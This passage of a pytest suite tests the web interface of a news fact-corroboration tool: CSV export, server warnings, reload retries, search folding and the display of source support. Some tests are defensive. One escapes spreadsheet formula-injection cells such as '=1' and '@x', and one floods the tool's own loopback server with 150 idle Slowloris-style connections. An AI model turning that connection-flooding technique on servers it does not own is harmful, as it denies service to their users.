    assert call(app, "/table/skipped.json").json()["rows"][0]["reason"] == FORMULAS[0]  # verbatim


@pytest.mark.issue(19)
@pytest.mark.parametrize(("cell", "shown"), [
    ("-3.5", "-3.5"), ("+2", "+2"), ("-1e5", "-1e5"), ("plain", "plain"), ("", ""),
    ("-", "'-"), ("=1", "'=1"), ("@x", "'@x"), ("- bullet", "'- bullet"),
])
def test_web_csv_cell(cell: str, shown: str) -> None:
    from corroborator.web.tables import csv_cell

    assert csv_cell(cell) == shown


@pytest.mark.issue(19)
def test_web_serve_on_all_interfaces_warns_first(tmp_path: Path) -> None:
    """``serve --host 0.0.0.0`` says what it exposes before it binds. The test keeps the
    port taken on loopback, so the server never listens beyond this machine."""
    import signal
    import socket
    import subprocess
    import sys

    write_record(make_record(), tmp_path / "record.sqlite")
    exe = Path(sys.executable).with_name("corroborator")
    with socket.socket() as holder:
        holder.bind(("127.0.0.1", 0))
        holder.listen()
        port = holder.getsockname()[1]
        done = subprocess.run([str(exe), "serve", str(tmp_path), "--host", "0.0.0.0", "--port",
                               str(port)], capture_output=True, text=True, timeout=60,
                              check=False)
    assert done.returncode != 0 and done.returncode != -signal.SIGKILL
    assert "warning: serving on every network interface" in done.stderr
    assert "Host check" in done.stderr
    quiet = subprocess.Popen([str(exe), "serve", str(tmp_path), "--port", "0"],
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        assert quiet.stdout is not None and "Serving" in quiet.stdout.readline()
    finally:
        quiet.terminate()
        _, err = quiet.communicate(timeout=30)
    assert "warning" not in err


@pytest.mark.issue(19)
def test_web_exposure_warning() -> None:
    from corroborator.web.server import exposure_warning

    assert exposure_warning("127.0.0.1") is None and exposure_warning("::1") is None
    assert exposure_warning("localhost") is None
    assert "every network interface" in (exposure_warning("0.0.0.0") or "")
    assert "every network interface" in (exposure_warning("::") or "")
    assert "192.168.1.5" in (exposure_warning("192.168.1.5") or "")


HOLD_EXCLUSIVE = r"""
import sqlite3, sys, time
con = sqlite3.connect(sys.argv[1], isolation_level=None)
con.execute("BEGIN EXCLUSIVE")
print("held", flush=True)
time.sleep(float(sys.argv[2]))
con.execute("ROLLBACK")
"""


@pytest.mark.issue(19)
def test_web_a_reload_that_failed_is_tried_again(tmp_path: Path) -> None:
    """A record replaced, then locked by another writer past SQLite's 5 s wait while the
    server reloads it: the server goes on with the old record, and shows the new one once
    the lock is gone (it used to keep the old one for good: it took the new file's stamp
    although the reload had failed)."""
    import subprocess
    import sys

    app = _app_for(make_record(), tmp_path)
    path = tmp_path / "record.sqlite"
    write_record(dataclasses.replace(make_record(), story="Rebuilt"), path)
    holder = subprocess.Popen([sys.executable, "-c", HOLD_EXCLUSIVE, str(path), "6.5"],
                              stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "held"
        during = call(app, "/index.json").json()["story"]  # waits 5 s for the lock, then fails
        assert during == "Halvern Chemicals plant fire, Marlow"
        assert holder.wait(timeout=30) == 0
    finally:
        holder.kill()
        holder.wait(timeout=10)
        if holder.stdout is not None:
            holder.stdout.close()
    time.sleep(1.1)  # past the pause between two tries of one file
    assert call(app, "/index.json").json()["story"] == "Rebuilt"


@pytest.mark.issue(19)
def test_web_overview_of_many_skipped_inputs_stays_small(tmp_path: Path) -> None:
    """200k skipped inputs made a 37 MB overview: it lists the first few and links the
    skipped table, which pages them all."""
    many = 20_000
    record = dataclasses.replace(make_record(), skipped=tuple(
        Skipped(f"reports/scan-{n:05d}.pdf", "unsupported format .pdf; convert it to text first")
        for n in range(many)))
    app = _app_for(record, tmp_path)
    page = call(app, "/")
    assert page.status == 200
    assert len(page.body) < 200_000, f"{len(page.body):,} bytes"
    assert "/table/skipped" in page.html().xpath("//section[@id='skipped']//a/@href")
    assert f"{many} inputs could not be read" in page.html().text_content()
    data = call(app, "/index.json").json()
    assert data["counts"]["skipped"] == many and data["more_skipped"] == many - len(data["skipped"])
    table = call(app, "/table/skipped.json?page=3").json()
    assert table["rows"] and table["rows"][0]["path"].startswith("reports/scan-")


@pytest.mark.issue(19)
def test_web_idle_connections_do_not_starve_the_server(tmp_path: Path) -> None:
    """Slowloris: 150 connections opened and left idle (waitress stopped accepting at 100,
    for 120 s each); a reader's request is still answered."""
    import socket

    write_record(make_record(), tmp_path / "record.sqlite")
    server, url = create_server(tmp_path, port=0)
    port = int(url.rsplit(":", 1)[1].strip("/"))
    thread = threading.Thread(target=server.run, daemon=True)  # type: ignore[attr-defined]
    thread.start()
    idle: list[socket.socket] = []
    try:
        for _ in range(150):
            idle.append(socket.create_connection(("127.0.0.1", port), timeout=5))
        time.sleep(0.5)  # let the server take them all
        with urllib.request.urlopen(url + "fact/f-injured.json", timeout=5) as response:
            assert json.load(response)["fact"]["id"] == "f-injured"
    finally:
        for sock in idle:
            sock.close()
        server.close()  # type: ignore[attr-defined]
        thread.join(timeout=10)


# ---------------------------------------------------------------------------
# search finds what a user types (issue 18.5)


def _spelled_record() -> Record:
    """The fixture record plus a report that spells a gang "MS13" and a name with diacritics,
    and a quote whose text does not name its speaker."""
    doc, sents = make_report(
        "spelled",
        [
            ["Police said MS13 members crossed the border.", "Vučić met the envoy."],
            ['"We will deport them all," said Tom Homan.', "The MS-13 gang denied it."],
        ],
        source=Source(outlet="Border Wire", title="Border crossings rise"),
    )
    quote = make_quote(doc, "spelled-q1", "We will deport them all,", "Tom Homan")
    base = make_record()
    return dataclasses.replace(
        base,
        documents=base.documents + (doc,),
        sentences=base.sentences + sents,
        quotes=base.quotes + (quote,),
    )


@pytest.fixture(scope="module")
def spelled_app(tmp_path_factory: pytest.TempPathFactory) -> App:
    return _app_for(_spelled_record(), tmp_path_factory.mktemp("spelled"))


def _hits(app: App, q: str, group: str) -> list[dict[str, Any]]:
    path = f"/search.json?q={urllib.parse.quote(q)}&group={group}"
    (result,) = call(app, path).json()["results"]
    return result["hits"]


@pytest.mark.issue(18)
@pytest.mark.parametrize("q", ["MS-13", "MS13", "ms13", "Ms\u201013"])
def test_web_search_finds_a_name_with_or_without_its_hyphen(spelled_app: App, q: str) -> None:
    texts = [h["text"] for h in _hits(spelled_app, q, "sentences")]
    assert texts == ["Police said MS13 members crossed the border.", "The MS-13 gang denied it."]


@pytest.mark.issue(18)
@pytest.mark.parametrize("q", ["Vucic", "vučić", "VUCIC"])
def test_web_search_folds_case_and_diacritics(spelled_app: App, q: str) -> None:
    assert [h["text"] for h in _hits(spelled_app, q, "sentences")] == ["Vučić met the envoy."]


@pytest.mark.issue(18)
def test_web_search_marks_a_folded_hit_in_the_original_text(spelled_app: App) -> None:
    page = call(spelled_app, "/search?q=vucic&group=sentences").html()
    assert [m.text_content() for m in page.xpath("//mark[@class='hit']")] == ["Vučić"]


@pytest.mark.issue(18)
def test_web_search_finds_quotes_by_their_speaker(spelled_app: App) -> None:
    hits = _hits(spelled_app, "Homan", "quotes")
    assert [h["title"] for h in hits] == ["Tom Homan"]
    assert _hits(spelled_app, "Adeyemi", "quotes")  # a fixture speaker, not named in her quote


@pytest.mark.issue(18)
@pytest.mark.parametrize(
    ("path", "allowed"),
    [
        ("/facts?kind=bogus", "count, amount, date"),
        ("/facts.json?status=nope", "conflict, agreed, single"),
        ("/compare.json?kind=bogus", "count, amount, date"),
    ],
)
def test_web_unknown_filter_value_is_400_naming_the_allowed(
    app: App, path: str, allowed: str
) -> None:
    r = call(app, path)
    assert r.status == 400
    assert allowed in r.text and ("bogus" in r.text or "nope" in r.text)


@pytest.mark.issue(18)
def test_web_known_filter_value_without_facts_is_still_200(app: App) -> None:
    r = call(app, "/facts.json?kind=percent")
    assert r.status == 200 and r.json()["facts"] == []


@pytest.mark.issue(18)
@pytest.mark.parametrize("query", ["MARLOW GENERAL", "Marlów General"])
def test_web_table_search_folds_case_and_diacritics(app: App, query: str) -> None:
    data = call(app, "/table/facts.json?_search=" + urllib.parse.quote(query)).json()
    assert [r["id"] for r in data["rows"]] == ["f-injured"]


# ---------------------------------------------------------------------------
# support and derivations: read from the record (issue 17)


@pytest.fixture(scope="module")
def marked_app(tmp_path_factory: pytest.TempPathFactory) -> App:
    return _app_for(marked(make_record()), tmp_path_factory.mktemp("marked"))


@pytest.mark.issue(17)
def test_web_fact_shows_the_records_support(marked_app: App) -> None:
    page = call(marked_app, "/fact/f-injured").html()
    [summary] = page.xpath("//dd[@class='support-summary']")
    assert summary.text_content() == "MARK f-injured"
    labels = page.xpath("//table[@class='support-sources']//td[@class='source-label']")
    data = call(marked_app, "/fact/f-injured.json").json()
    assert data["support"]["summary"] == "MARK f-injured"
    assert [x.text_content() for x in labels] == [x["label"] for x in data["support"]["sources"]]
    assert labels


@pytest.mark.issue(17)
def test_web_fact_support_names_the_report_a_report_copies(marked_app: App) -> None:
    record = make_record()
    copy, source = record.documents[1].id, record.documents[0].id
    fact = next(f for f in record.facts if copy in {m.doc for m in f.mentions})
    data = call(marked_app, f"/fact/{fact.id}.json").json()
    reports = {r["id"]: r for x in data["support"]["sources"] for r in x["reports"]}
    assert reports[copy]["copies"]["source"]["id"] == source
    assert reports[copy]["copies"]["kind"] == "partial"


@pytest.mark.issue(17)
def test_web_facts_table_has_independent_sources(marked_app: App) -> None:
    page = call(marked_app, "/facts").html()
    cells = page.xpath("//table[contains(@class, 'facts')]//td[contains(@class, 'support')]")
    assert cells and all(c.get("title", "").startswith("MARK ") for c in cells)
    rows = call(marked_app, "/facts.json").json()["facts"]
    assert all(r["support"]["summary"] == f"MARK {r['id']}" for r in rows)


@pytest.mark.issue(17)
def test_web_report_says_what_it_copies(marked_app: App) -> None:
    record = make_record()
    copy, source = record.documents[1].id, record.documents[0].id
    page = call(marked_app, f"/report/{copy}").html()
    [line] = page.xpath("//p[contains(@class, 'copies')]")
    assert line.xpath(".//a/@href") == [f"/report/{source}"]
    assert "partial copy, 50% of its words copied" in line.text_content()
    back = call(marked_app, f"/report/{source}").html()
    assert back.xpath("//p[contains(@class, 'copied-by')]//a/@href") == [f"/report/{copy}"]


@pytest.mark.issue(17)
def test_web_statement_shows_the_sources_kind_and_cue(marked_app: App) -> None:
    fact = make_record().facts[0]
    first = fact.mentions[0]
    page = call(marked_app, f"/fact/{fact.id}").html()
    [item] = page.xpath(f"//li[@id='st-{first.id}']")
    assert item.xpath(".//span[contains(@class, 'said-by-kind')]")[0].text_content() == "named"
    data = call(marked_app, f"/fact/{fact.id}.json").json()
    shown = [m["mention"] for v in data["values"] for m in v["mentions"]]
    assert {(m["id"], m["said_by_kind"], m["said_by_cue"]) for m in shown} >= {
        (first.id, "named", "said")}


@pytest.mark.issue(17)
def test_web_tables_hold_support_and_derivations(marked_app: App) -> None:
    facts = call(marked_app, "/table/facts.json?id=f-injured").json()["rows"]
    assert facts[0]["support"] == "MARK f-injured"
    assert facts[0]["independent_sources"] >= 1
    derived = call(marked_app, "/table/derivations.json").json()["rows"]
    record = make_record()
    assert [(r["doc"], r["source_doc"], r["kind"]) for r in derived] == [
        (record.documents[1].id, record.documents[0].id, "partial")]
